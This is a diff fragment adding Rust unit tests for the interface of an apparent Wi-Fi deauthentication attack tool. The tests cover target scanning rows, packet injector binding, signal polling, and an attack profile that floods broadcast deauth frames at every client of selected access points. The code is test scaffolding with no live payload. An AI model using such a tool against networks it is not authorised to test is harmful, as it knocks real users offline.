+            bytes_transmitted: 5_000_000_000,
+            ..Metrics::default()
+        };
+        
+        let ui_metrics = UiMetrics::from(&metrics);
+        assert_eq!(ui_metrics.packets_per_second, 1250);
+        assert_eq!(ui_metrics.active_targets, 3);
+        assert!((ui_metrics.success_rate - 0.876_543_2).abs() < f32::EPSILON);
+        assert!((ui_metrics.channel_utilization - 1.0).abs() < f32::EPSILON);
+        assert_eq!(ui_metrics.bytes_transmitted, i32::MAX);
+        
+        let idle = UiMetrics::from(&Metrics::default());
+        assert_eq!((idle.packets_per_second, idle.bytes_transmitted), (0, 0));
+        assert!(idle.success_rate.abs() < f32::EPSILON);
+    }
+    
+    #[test]
+    fn test_target_row_conversion() {
+        use super::super::targets::{EncryptionType, Target as ScannedTarget};
+        
+        let row = Target::from(ScannedTarget {
+            mac_address: MacAddress::new([0x00, 0x11, 0x22, 0xAA, 0xBB, 0xCC]),
+            ssid: "Cafe".to_string(),
+            channel: 149,
+            signal_strength: -67,
+            encryption: EncryptionType::WPA3,
+            vendor: Some("Acme".to_string()),
+            last_seen: std::time::SystemTime::now(),
+        });
+        
+        assert_eq!(row.mac, "00:11:22:AA:BB:CC");
+        assert_eq!(row.ssid, "Cafe");
+        assert_eq!(row.channel, 149);
+        assert_eq!(row.signal, -67);
+        assert_eq!(row.encryption, "WPA3");
+        assert_eq!(row.packets, 0);
+        assert_eq!(row.status, "Discovered");
+    }
+    
+    #[test]
+    fn test_target_row_keeps_star() {
+        use super::super::targets::{EncryptionType, Target as ScannedTarget};
+        
+        let mac = MacAddress::new([0x00, 0x11, 0x22, 0xAA, 0xBB, 0xCC]);
+        let scanned = ScannedTarget {
+            mac_address: mac,
+            ssid: "Cafe".to_string(),
+            channel: 6,
+            signal_strength: -50,
+            encryption: EncryptionType::WPA2,
+            vendor: None,
+            last_seen: std::time::SystemTime::now(),
+        };
+        let mut targets = TargetManager::new();
+        targets.add_target(scanned.clone());
+        assert!(!target_row(&targets, &mac).expect("Should find target").starred);
+        
+        // A star set before a rescan still shows once the target is heard again
+        targets.set_starred(mac, true);
+        targets.clear_targets();
+        assert!(target_row(&targets, &mac).is_none());
+        targets.add_target(scanned);
+        assert!(target_row(&targets, &mac).expect("Should find target").starred);
+    }
+    
+    #[test]
+    fn test_attack_profile_from_selection() {
+        let first = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let second = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        
+        // Every client of each selected access point, with the count set in the UI
+        let profile = attack_profile(&[first, second], reason_codes::UNSPECIFIED, 250).expect("Should plan attack");
+        let access_points: Vec<MacAddress> = profile.targets.iter().map(|target| target.access_point).collect();
+        assert_eq!(access_points, vec![first, second]);
+        assert!(profile.targets.iter().all(|target| target.target == MacAddress::new([0xFF; 6])));
+        assert_eq!(profile.frames_per_target, 250);
+        assert_eq!(profile.reason_code, Some(reason_codes::UNSPECIFIED));
+        
+        assert!(matches!(attack_profile(&[], reason_codes::UNSPECIFIED, 250), Err(DeauthError::ConfigError(_))));
+        assert!(matches!(attack_profile(&[first], reason_codes::UNSPECIFIED, 0), Err(DeauthError::InvalidField { .. })));
+    }
+    
+    #[test]
+    fn test_signal_watch_follows_until_stopped() {
+        use crate::network::LoopbackChannel;
+        
+        let first = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let second = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let targets = Arc::new(parking_lot::Mutex::new(TargetManager::new()));
+        
+        // One poller on one capture for every attacked access point, running until the attack stops
+        let mut watch = SignalWatch::default();
+        let mut opened = Vec::new();
+        let open = |access_points: &[MacAddress]| {
+            opened.push(access_points.to_vec());
+            Ok(Box::new(LoopbackChannel::new()) as Box<dyn CaptureSource>)
+        };
+        watch.follow(&[first, second], &targets, open).expect("Should follow signals");
+        assert_eq!(opened, [vec![first, second]]);
+        assert!(watch.poller.as_ref().is_some_and(|poller| !poller.is_finished()));
+        
+        // Stopping returns at once; the poller winds down on its own
+        let stop = Arc::clone(&watch.stop);
+        watch.stop();
+        assert!(stop.load(Ordering::Relaxed));
+        assert!(watch.poller.is_none());
+        
+        // A capture that cannot be opened is reported
+        let failing = |_: &[MacAddress]| Err(DeauthError::InterfaceError("no capture".to_string()));
+        assert!(watch.follow(&[first], &targets, failing).is_err());
+        watch.stop();
+    }
+    
+    #[test]
+    fn test_injector_rebind() {
+        use pcap::Device;
+        use std::cell::RefCell;
+        
+        let opened = RefCell::new(Vec::new());
+        let open = |interface: &str| {
+            opened.borrow_mut().push(interface.to_string());
+            Ok(PacketInjector::from_device(Device::from(interface)))
+        };
+        
+        let mut binding = InjectorBinding::default();
+        assert!(matches!(binding.injector(open), Err(DeauthError::InterfaceError(_))));
+        
+        // Opened lazily, then reused
+        assert!(binding.rebind("wlan0"));
+        let first = binding.injector(open).expect("Should open injector");
+        let again = binding.injector(open).expect("Should reuse injector");
+        assert!(Arc::ptr_eq(&first, &again));
+        
+        // Reselecting the same interface keeps the injector
+        assert!(!binding.rebind("wlan0"));
+        assert!(Arc::ptr_eq(&first, &binding.injector(open).expect("Should reuse injector")));
+        assert_eq!(*opened.borrow(), vec!["wlan0"]);
+        
+        // A new interface gets a new injector, after a failed open is retried
+        assert!(binding.rebind("wlan1"));
+        let failed = binding.injector(|_| Err(DeauthError::PermissionError("need root".to_string())));
+        assert!(matches!(failed, Err(DeauthError::PermissionError(_))));
+        
+        let second = binding.injector(open).expect("Should open injector");
+        assert!(!Arc::ptr_eq(&first, &second));
+        assert_eq!(*opened.borrow(), vec!["wlan0", "wlan1"]);
+    }
+    
+    #[test]
+    fn test_format_interface_stats() {
+        let injection = InjectionStats {
+            packets_sent: 1200,
+            packets_dropped: 3,
+            bytes_sent: 40800,
+            errors: 1,
+        };
+        let capture = CaptureStats {
+            packets_captured: 5400,
+            packets_dropped: 12,
+            bytes_captured: 1_048_576,
+        };
+        
+        let (tx, rx) = format_interface_stats(&injection, &capture);
+        assert_eq!(tx, "TX 1200 pkts, 3 dropped, 1 errors");
+        assert_eq!(rx, "RX 5400 pkts, 12 dropped");
+    }
 }
\ No newline at end of file